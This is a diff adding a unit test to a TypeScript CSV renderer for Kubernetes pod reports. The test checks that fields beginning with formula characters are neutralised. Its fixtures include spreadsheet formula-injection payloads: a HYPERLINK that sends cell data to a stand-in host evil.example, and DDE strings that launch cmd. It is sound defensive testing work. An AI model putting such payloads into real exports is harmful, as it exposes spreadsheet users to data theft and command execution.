@@ -144,6 +144,40 @@ describe("renderCsv", () => {
     expect(csv).toContain(`,"Two\nlines",`);
   });
 
+  it("neutralises fields a spreadsheet would run as formulas, as OWASP recommends (repro csv-formula)", () => {
+    // The smallest input of the defect: formulas in the namespace, name, uid, node and a waiting reason.
+    const hostile = reportOf([
+      envelope(
+        "ADDED",
+        pod({
+          uid: "@SUM(1+1)",
+          name: '=HYPERLINK("http://evil.example/?x="&A2,"open")',
+          namespace: "=1+2",
+          rv: 1,
+          node: "+cmd|' /C calc'!A0",
+          statuses: [{ name: "app", state: { waiting: "-2+3+cmd|' /C calc'!A0" } }],
+        }),
+      ),
+      envelope("ADDED", pod({ uid: "u-tab", name: "tab", namespace: "ns", rv: 2, node: "\tn1", statuses: [{ name: "app", state: { waiting: "\r=1" } }] })),
+      envelope("ADDED", pod({ uid: "-5", name: "+1.5", namespace: "ns", rv: 3, node: "-", statuses: [{ name: "app", state: { waiting: "@" } }] })),
+    ]);
+    const out = renderCsv(hostile);
+    const [head, ...body] = parseCsv(out);
+    const rows = body.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i]!])));
+    expect(rows.find((r) => r["uid"] === "'@SUM(1+1)")).toMatchObject({
+      namespace: "'=1+2",
+      name: `'=HYPERLINK("http://evil.example/?x="&A2,"open")`,
+      node: "'+cmd|' /C calc'!A0",
+      stuckIn: "'-2+3+cmd|' /C calc'!A0",
+      failures: "'-2+3+cmd|' /C calc'!A0[app]×1",
+    });
+    expect(rows.find((r) => r["name"] === "tab")).toMatchObject({ node: "'\tn1", stuckIn: "'\r=1" });
+    // A plain number stays a number; a lone "-" or "@" is still neutralised.
+    expect(rows.find((r) => r["uid"] === "-5")).toMatchObject({ name: "+1.5", node: "'-", stuckIn: "'@" });
+    // No field of any row starts with a formula character unless it is a plain number.
+    for (const r of body) for (const f of r) expect(/^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f), f).toBe(false);
+  });
+
   it("writes only the header for a capture without pods", () => {
     expect(parseCsv(renderCsv(reportOf([])))).toEqual([header]);
   });
